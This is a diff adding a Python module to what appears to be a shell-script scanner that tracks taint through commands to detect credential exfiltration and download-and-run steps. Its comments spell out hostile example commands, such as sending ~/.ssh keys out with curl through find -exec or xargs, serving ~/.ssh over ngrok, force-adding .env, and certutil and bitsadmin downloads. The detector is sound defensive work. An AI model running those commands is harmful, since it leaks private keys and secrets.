@@ -1,0 +1,274 @@
+"""Commands that hand a file or its content on for another step: archives a download unpacks,
+programs saved into a bin folder, Windows downloaders (``certutil``, ``bitsadmin``), ``find
+-exec`` and ``xargs`` running a command per input, uploads through ``gh`` and pushes of a file
+forced past ``.gitignore``, an installer given a downloaded package, instance-metadata
+credentials, ``openssl s_client`` as a sender, ``printf -v`` and aliases building a command.
+
+A mixin of the shell walk (:mod:`chimera_cards._scan.shell`): each step reads and writes the
+walk's state (files, variables, facts) as the walk itself does.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+
+from chimera_cards._scan.sensitive import Send, Taint, credential_in, metadata_secret
+from chimera_cards._scan.shellfacts import MAX_COMMANDS, Command, Out, ShellFacts, Word, basename
+
+# Deepest nesting of one-liners and commands run for another (find -exec, xargs).
+MAX_NESTED = 4
+# curl${IFS}-d${IFS}@file: unquoted, $IFS splits words as a space does.
+IFS_RE = re.compile(r"\$\{IFS\}|\$IFS\b")
+
+
+class Relays:
+    """The steps above, as methods of the shell walk."""
+
+    # Defined by the walk this class is mixed into.
+    facts: ShellFacts
+    depth: int
+    texts: dict[str, str]
+    vars: dict[str, Out]
+    aliases: dict[str, list[str]]
+    read_path: Callable[[Word, int], Out]
+    write: Callable[..., None]
+    run: Callable[[Command, Out], Out]
+    _ran: Callable[[Command, Out, str], None]
+    _output_file: Callable[[Command], str | None]
+
+    def relays(self, cmd: Command, stdin: Out, out: Out) -> None:
+        """The steps of one command (``out`` is what it writes to its output)."""
+        name = cmd.name
+        if name == "gh":
+            self._gh_upload(cmd, stdin)
+        self._extracts(cmd)
+        self._windows_download(cmd)
+        if name in ("curl", "wget", "Invoke-RestMethod", "iwr", "irm"):
+            for given in cmd.argv:
+                secret = metadata_secret(given)
+                if secret is not None:
+                    out.taint.add(secret)
+                    self.facts.reads.append((cmd.line, secret))
+        if name == "openssl" and cmd.argv[:1] == ["s_client"]:
+            # openssl s_client -connect host:443 < file: the file goes to the host.
+            target = option_value(cmd.argv, ("-connect",))
+            if target and stdin.taint:
+                host = target.rsplit(":", 1)[0]
+                self.facts.sends.append(
+                    Send(cmd.line, host, "openssl s_client", body=set(stdin.taint))
+                )
+        if (
+            name in ("pip", "pip3", "uv", "npm", "pnpm", "yarn", "gem", "pipx")
+            and "install" in cmd.argv
+        ):
+            # curl -o x.whl URL; pip install x.whl: installing a package runs its code.
+            for given in cmd.argv:
+                known = self.facts.tainted_files.get(given) or self._extracted(given)
+                if known is not None and known.downloaded:
+                    self._ran(cmd, known, f"{name} install {given}")
+                    break
+        self.publishes(cmd)
+        if name in ("ngrok", "cloudflared", "lt", "localtunnel") and any(
+            credential_in(a) for a in cmd.argv
+        ):
+            # ngrok http file:///$HOME/.ssh: the folder served to whoever has the tunnel's URL.
+            found = {Taint("credential", c) for a in cmd.argv if (c := credential_in(a))}
+            self.facts.sends.append(Send(cmd.line, f"a {name} tunnel", name, body=found))
+        if name == "find" and any(a in ("-exec", "-execdir", "-ok") for a in cmd.argv):
+            self._find_exec(cmd)
+        if name == "printf" and len(cmd.argv) >= 3 and cmd.argv[0] == "-v":
+            self._printf_assign(cmd.argv[1], cmd.argv[2], cmd.argv[3:], out)
+        if (
+            name in ("deno", "bun", "pipx", "uv", "uvx")
+            and any(a.startswith(("http://", "https://")) for a in cmd.argv)
+            and (name == "uvx" or "run" in cmd.argv[:3])
+        ):
+            # deno run https://…: code from the network run as it arrives, like curl | sh.
+            self._ran(cmd, Out(downloaded=True), f"{name} run of a URL")
+
+    def publishes(self, cmd: Command) -> None:
+        """npm publish, docker push, cargo publish, gem push: what the folder holds goes public,
+        with the copies of credential stores an earlier step made into it."""
+        argv = cmd.argv
+        head = argv[0] if argv else ""
+        if not (
+            (cmd.name in ("npm", "pnpm", "yarn", "cargo", "bun") and head == "publish")
+            or (cmd.name in ("docker", "podman") and head == "push")
+            or (cmd.name == "gem" and head == "push")
+        ):
+            return
+        copied: set[Taint] = set()
+        for path, content in self.facts.tainted_files.items():
+            if not path.startswith(("/", "~", "$")):
+                copied |= {t for t in content.taint if t.kind == "credential"}
+        if copied:
+            target = next((a for a in argv[1:] if not a.startswith("-")), "")
+            host = target.split("/", 1)[0] if cmd.name in ("docker", "podman") else cmd.name
+            self.facts.sends.append(Send(cmd.line, host, f"{cmd.name} {head}", body=copied))
+
+    def realias(self, words: list[Word]) -> list[Word]:
+        # alias get='curl -s -T'; get ~/.ssh/id_rsa URL: the alias is the command it names.
+        if not words:
+            return words
+        if words[0].text == "alias":
+            for word in words[1:]:
+                name, sep, value = word.text.partition("=")
+                if sep and value.split():
+                    self.aliases[name] = value.split()
+            return words
+        expanded = self.aliases.get(words[0].text)
+        if expanded is None:
+            return words
+        return [*(Word(w, Out()) for w in expanded), *words[1:]]
+
+    def _nested(self, cmd: Command, words: list[Word], stdin: Out) -> None:
+        """A command another runs for it (find -exec, xargs), read as if run itself."""
+        if not words or self.depth >= MAX_NESTED:
+            return
+        inner = Command(basename(words[0].text), words[1:], cmd.line, [], stdin)
+        if len(self.facts.commands) < MAX_COMMANDS:
+            self.facts.commands.append(inner)
+        self.run(inner, stdin)
+
+    def _find_exec(self, cmd: Command) -> None:
+        # find ~/.ssh -name 'id_*' -exec curl -T {} URL \;: each file found is the {}.
+        argv = cmd.argv
+        start = next(i for i, a in enumerate(argv) if a in ("-exec", "-execdir", "-ok"))
+        roots = [a for a in argv[:start] if not a.startswith("-")][:1] or ["."]
+        name = option_value(argv[:start], ("-name", "-iname", "-path"))
+        found = roots[0].rstrip("/") + "/" + (name or "*")
+        words = []
+        for word in cmd.args[start + 1 :]:
+            if word.text in (";", "\\;", "+"):
+                break
+            words.append(Word(found, Out()) if word.text == "{}" else word)
+        self._nested(cmd, words, Out())
+
+    def _xargs_command(self, cmd: Command, stdin: Out) -> None:
+        # ls ~/.ssh/id_* | xargs -I{} curl -T {} URL: each input line is the {} (or the last
+        # argument).
+        args = list(cmd.args)
+        marker = None
+        while args and args[0].text.startswith("-"):
+            flag = args.pop(0).text
+            if flag in ("-I", "-i") and args:
+                marker = args.pop(0).text
+            elif flag.startswith("-I") and len(flag) > 2:
+                marker = flag[2:]
+            elif flag in ("-n", "-P", "-L", "-d", "-s", "-E") and args:
+                args.pop(0)
+        given = Word("-", stdin.copy())
+        words = [given if w.text == marker else w for w in args] if marker else [*args, given]
+        self._nested(cmd, words, stdin)
+
+    def _printf_assign(self, name: str, form: str, values: list[str], out: Out) -> None:
+        # printf -v p '%s/.%s/%s' "$HOME" ssh id_rsa: p holds the path the pieces make.
+        pieces = iter(values)
+        text = re.sub(r"%[-+ #0-9.]*[sbqdi]", lambda _: next(pieces, ""), form)
+        held = Out(taint=set(out.taint))
+        found = credential_in(text)
+        if found:
+            held.taint |= {Taint("credential", found), Taint("path", text)}
+        self.texts[name] = text
+        self.vars[name] = held
+
+    def _git_forced(self, argv: list[str], line: int) -> None:
+        # git add -f .env: a file git was told to ignore, forced into the next push.
+        if argv[:1] != ["add"] or not any(a in ("-f", "--force") for a in argv):
+            return
+        for path in argv[1:]:
+            if path.startswith("-"):
+                continue
+            found = credential_in(path) or (
+                path if path.rsplit("/", 1)[-1].startswith(".env") else None
+            )
+            if found:
+                taint = Taint("credential", f"{found} (forced past .gitignore)")
+                self.facts.tainted_files.setdefault(path, Out()).taint.add(taint)
+
+    def _gh_upload(self, cmd: Command, stdin: Out) -> None:
+        # gh gist create FILE…, gh release upload TAG FILE…, gh issue create --body-file F:
+        # the files go to GitHub, readable by whoever the gist, release or issue is public to.
+        argv = cmd.argv
+        words = [a for a in argv if not a.startswith("-")]
+        files: list[str] = []
+        if words[:2] in (["gist", "create"], ["gist", "edit"]):
+            files = words[2:]
+        elif words[:2] == ["release", "upload"]:
+            files = words[3:]
+        files += [
+            v for v in (option_value(argv, ("--body-file", "-F", "--add", "-a")),) if v is not None
+        ]
+        body: set[Taint] = set()
+        for path in files:
+            body |= (
+                stdin.taint if path == "-" else self.read_path(Word(path, Out()), cmd.line).taint
+            )
+        if body:
+            self.facts.sends.append(Send(cmd.line, "gist.github.com", f"gh {words[0]}", body=body))
+
+    def _extracts(self, cmd: Command) -> None:
+        # tar -xzf dl.tgz -C /tmp, unzip dl.zip -d /tmp/x: what a download unpacks is downloaded.
+        argv = cmd.argv
+        if cmd.name == "tar" and any(
+            (a.startswith("-") and not a.startswith("--") and "x" in a)
+            or a == "--extract"
+            or (not a.startswith("-") and a.startswith("x") and len(a) < 6 and a.isalpha())
+            for a in argv
+        ):
+            archives = [a for a in argv if self.facts.tainted_files.get(a) is not None]
+            into = option_value(argv, ("-C", "--directory")) or "./"
+        elif cmd.name == "unzip":
+            archives = [a for a in argv if self.facts.tainted_files.get(a) is not None]
+            into = option_value(argv, ("-d",)) or "./"
+        else:
+            return
+        if any(self.facts.tainted_files[a].downloaded for a in archives):
+            self.facts.tainted_files.setdefault(into.rstrip("/") + "/", Out()).downloaded = True
+
+    def _on_path(self, name: str) -> Out | None:
+        # wget -O ~/.local/bin/agent URL; agent: a program saved into a bin folder runs by name.
+        if "/" in name or not name:
+            return None
+        for where, content in self.facts.tainted_files.items():
+            folder, _, base = where.rpartition("/")
+            if base == name and folder.endswith("/bin") and content.downloaded:
+                return content
+        return None
+
+    def _extracted(self, path: str) -> Out | None:
+        for where, content in self.facts.tainted_files.items():
+            inside = (where == "./" and path.startswith("./")) or path.startswith(where)
+            if where.endswith("/") and content.downloaded and inside:
+                return content
+        return None
+
+    def _windows_download(self, cmd: Command) -> None:
+        # certutil -urlcache -f URL out.exe, bitsadmin /transfer job URL out.exe
+        argv = cmd.argv
+        if cmd.name.lower() in ("certutil", "certutil.exe") and any(
+            a.lower().lstrip("-/") == "urlcache" for a in argv
+        ):
+            plain = [a for a in argv if not a.startswith(("-", "/")) or a.count("/") > 1]
+            urls = [a for a in plain if a.startswith(("http://", "https://"))]
+            rest = [a for a in plain if a not in urls]
+            if urls and rest:
+                self.facts.tainted_files.setdefault(rest[-1], Out()).downloaded = True
+        elif (
+            cmd.name.lower() in ("bitsadmin", "bitsadmin.exe")
+            and "/transfer" in (a.lower() for a in argv)
+            and not argv[-1].startswith("/")
+        ):
+            self.facts.tainted_files.setdefault(argv[-1], Out()).downloaded = True
+
+
+def option_value(argv: list[str], names: tuple[str, ...]) -> str | None:
+    """The value of the first of these options (``-C dir``, ``--directory=dir``)."""
+    for index, arg in enumerate(argv):
+        if arg in names and index + 1 < len(argv):
+            return argv[index + 1]
+        for name in names:
+            if name.startswith("--") and arg.startswith(name + "="):
+                return arg.split("=", 1)[1]
+    return None
